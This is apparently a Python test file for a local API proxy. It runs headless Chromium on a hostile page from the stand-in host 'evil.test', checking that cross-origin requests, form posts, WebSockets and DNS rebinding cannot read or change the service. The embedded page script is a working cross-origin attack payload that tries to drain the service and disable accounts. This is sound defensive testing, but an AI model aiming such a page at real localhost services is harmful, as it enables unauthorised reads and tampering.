"""X2: a page of somebody else in a real browser, and a name that he has pointed at this machine.

Once per release (`make sweep`), where there is a Chromium.
"""

from __future__ import annotations

import contextlib
import functools
import json
import os
import shutil
import subprocess
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import pytest
import trio

from server.scripted import Answer, ScriptedUpstream
from server.scripted.requests import SeenRequest
from tests.kit.live import Live
from tests.kit.promises import Measured
from tests.kit.raw_client import serving
from tests.kit.rounds import SWEEPING

NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
BROWSER = os.environ.get("TEST_BROWSER") or next(filter(None, map(shutil.which, NAMES)), None)
EVIL = "evil.test"

pytestmark = [
    pytest.mark.sweep,
    pytest.mark.slow,
    pytest.mark.timeout(180),
    pytest.mark.skipif(not SWEEPING, reason="starts a browser: TEST_SWEEP=1"),
    pytest.mark.skipif(BROWSER is None, reason="there is no Chromium (TEST_BROWSER names one)"),
]

PAGE = """<!doctype html><title>hello</title><body><script>
const target = "%s", found = {};
const question = JSON.stringify({model: "m", max_tokens: 1, messages: []});
const json = {"content-type": "application/json"}, plain = {"content-type": "text/plain"};
async function attempt(name, path, options) {
  try {
    const answer = await fetch(target + path, options);
    found[name] = [answer.type, answer.status, (await answer.text()).slice(0, 200)];
  } catch (error) { found[name] = ["refused", 0, error.name]; }
}
function element(name, tag, attributes) {
  return new Promise(done => {
    const one = Object.assign(document.createElement(tag), attributes);
    one.onload = () => { found[name] = ["loaded", 0, ""]; done(); };
    one.onerror = () => { found[name] = ["failed", 0, ""]; done(); };
    document.body.append(one);
  });
}
function form(name, path) {
  return new Promise(done => {
    const frame = Object.assign(document.createElement("iframe"), {name});
    const one = Object.assign(document.createElement("form"), {
      action: target + path, method: "post", enctype: "text/plain", target: name });
    one.append(Object.assign(document.createElement("input"), {name: question, value: ""}));
    document.body.append(frame, one);
    frame.onload = () => { found[name] = ["sent", 0, ""]; done(); };
    one.submit();
  });
}
function socket(name) {
  return new Promise(done => {
    const one = new WebSocket(target.replace("http", "ws") + "/v1/messages");
    one.onopen = () => { found[name] = ["open", 0, ""]; done(); };
    one.onerror = () => { found[name] = ["failed", 0, ""]; done(); };
  });
}
async function all() {
  for (const mode of ["no-cors", "cors", "same-origin"]) {
    await attempt(mode + " status", "/status", {mode});
    await attempt(mode + " plain question", "/v1/messages", {mode, method: "POST", headers: plain, body: question});
    await attempt(mode + " models", "/v1/models", {mode, credentials: "include"});
    await attempt(mode + " drain", "/status/drain", {mode, method: "POST"});
    await attempt(mode + " disable", "/status/accounts/work/disable", {mode, method: "POST"});
  }
  await attempt("question", "/v1/messages", {method: "POST", headers: json, body: question});
  await attempt("chat", "/v1/chat/completions", {method: "POST", headers: json, body: question});
  await attempt("dashboard", "/dashboard", {mode: "no-cors"});
  await element("script", "script", {src: target + "/status"});
  await element("image", "img", {src: target + "/v1/models"});
  await element("frame", "iframe", {src: target + "/dashboard"});
  await form("form", "/v1/messages");
  await form("drain form", "/status/drain");
  await socket("socket");
  navigator.sendBeacon(target + "/v1/messages", question);
  await new Promise(done => setTimeout(done, 500));
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
}
all();
</script>"""

READABLE = ("basic", "cors", "default")
"""Types of an answer whose text a page gets to see."""


class Page(ScriptedUpstream):
    """Somebody else's server: his page, and what it found out."""

    def __init__(self) -> None:
        super().__init__(self._serve)
        self.target = ""
        self.reported = trio.Event()
        self.found: dict[str, list[Any]] = {}

    def _serve(self, seen: SeenRequest) -> Answer:
        if seen.path == "/report":
            self.found = json.loads(seen.body)
            self.reported.set()
        return Answer(headers=(("content-type", "text/html"),), body=(PAGE % self.target).encode())


@contextlib.asynccontextmanager
async def browsing(url: str, profile: Path) -> AsyncGenerator[None, None]:
    """A browser that looks at `url`; it knows no host but this machine, and `EVIL` is that too."""
    command = [
        str(BROWSER), "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
        "--disable-dev-shm-usage", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--no-proxy-server", f"--user-data-dir={profile}",
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", url,
    ]  # fmt: skip
    environment = {**os.environ, "HOME": str(profile)}
    run = functools.partial(
        trio.run_process, command, env=environment, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL, check=False,
    )  # fmt: skip
    async with trio.open_nursery() as nursery:
        await nursery.start(run)
        yield
        nursery.cancel_scope.cancel()


async def attack(page_host: str, target: str, profile: Path) -> dict[str, list[Any]]:
    """What a page of `page_host` could find out about `target`."""
    page = Page()
    page.target = target
    async with trio.open_nursery() as nursery:
        url: str = await nursery.start(page.serve_tcp)
        async with browsing(url.replace("127.0.0.1", page_host), profile):
            with trio.fail_after(90):
                await page.reported.wait()
        nursery.cancel_scope.cancel()
    return page.found


@pytest.mark.promise("X2")
@pytest.mark.parametrize("page_host", [EVIL, "127.0.0.1"])
async def test_a_page_in_a_browser_reads_nothing_changes_nothing_and_nothing_goes_upstream(
    page_host: str, tmp_path: Path, measured: Measured
) -> None:
    async with serving(tmp_path) as live:
        found = await attack(page_host, live.url, tmp_path / "profile")
        await still_well(live)
    assert len(found) > 20
    read = {name: result for name, result in found.items() if result[0] in READABLE}
    assert read == {}
    assert found["socket"][0] == "failed"
    assert found["script"][0] == "failed"
    assert found["image"][0] == "failed"
    measured("X2", f"answers that a page of {page_host} could read, Chromium", len(read), rounds=len(found))  # fmt: skip


async def still_well(live: Live) -> None:
    assert live.upstream.requests == []
    status = (await live.ask("GET", "/status")).json()
    assert [account["enabled"] for account in status["accounts"]] == [True]
    assert (await live.ask("GET", "/health")).status == 200


@pytest.mark.promise("X2")
async def test_a_name_that_was_pointed_at_this_machine_reads_nothing_either(
    tmp_path: Path, measured: Measured
) -> None:
    """DNS rebinding: whoever looks at it by that name sees a refusal. Nothing but `Host` tells."""
    async with serving(tmp_path) as live:
        rebound = live.url.replace("127.0.0.1", EVIL)
        found = await attack(EVIL, rebound, tmp_path / "profile")
        dumped = await trio.run_process(
            [str(BROWSER), "--headless=new", "--no-sandbox", "--disable-gpu", "--no-proxy-server",
             "--disable-background-networking", f"--user-data-dir={tmp_path / 'other'}",
             f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
             "--dump-dom", f"{rebound}/status"],
            capture_stdout=True, stderr=subprocess.DEVNULL, check=False,
        )  # fmt: skip
        await still_well(live)
    assert b"totalAccounts" not in dumped.stdout
    assert EVIL.encode() in dumped.stdout, "it says that this is not its name"
    assert [name for name, result in found.items() if result[0] in READABLE] == []
    measured("X2", "answers that a rebound name could read, Chromium", 0, rounds=len(found))


@pytest.mark.promise("X2", control=True)
async def test_what_has_no_such_door_is_reached_by_the_same_page(tmp_path: Path) -> None:
    """A server that answers whoever asks: the browser alone keeps nobody from sending."""
    open_door = ScriptedUpstream(
        Answer(headers=(("access-control-allow-origin", "*"),), body=b"{}")
    )
    async with trio.open_nursery() as nursery:
        url: str = await nursery.start(open_door.serve_tcp)
        found = await attack(EVIL, url, tmp_path / "profile")
        nursery.cancel_scope.cancel()
    assert [seen for seen in open_door.requests if seen.path == "/status/drain"]
    assert found["cors status"][:2] == ["cors", 200]
